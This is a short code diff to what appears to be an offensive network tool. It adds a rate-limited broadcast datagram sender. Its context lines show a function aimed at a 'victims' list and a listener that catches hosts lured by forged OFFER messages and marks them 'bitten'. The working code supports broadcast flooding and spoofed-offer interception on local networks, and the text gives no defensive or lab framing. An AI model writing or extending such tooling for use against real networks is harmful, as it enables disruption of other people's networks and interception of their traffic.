@@ -138,6 +138,24 @@ def aim(job_id: str, address: str, target: str, victims: list[str], per_second: 
     return sessions
 
 
+def shout(address: str, everybody: list[str], data: bytes, per_second: int, seconds: float) -> int:
+    """Send a datagram to broadcast addresses at a rate, and return how many answers came."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        sender.bind((address, 0))
+        started = time.monotonic()
+        for number in range(int(per_second * seconds)):
+            time.sleep(max(0.0, started + number / per_second - time.monotonic()))
+            sender.sendto(data, (everybody[number % len(everybody)], PORT))
+        answers = 0
+        sender.settimeout(_QUIET_SECONDS)
+        with contextlib.suppress(TimeoutError):
+            while True:
+                sender.recv(2048)
+                answers += 1
+        return answers
+
+
 def bait(address: str) -> None:
     """Listen where forged OFFERs lead; report what each caller says first as ``bitten``."""
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
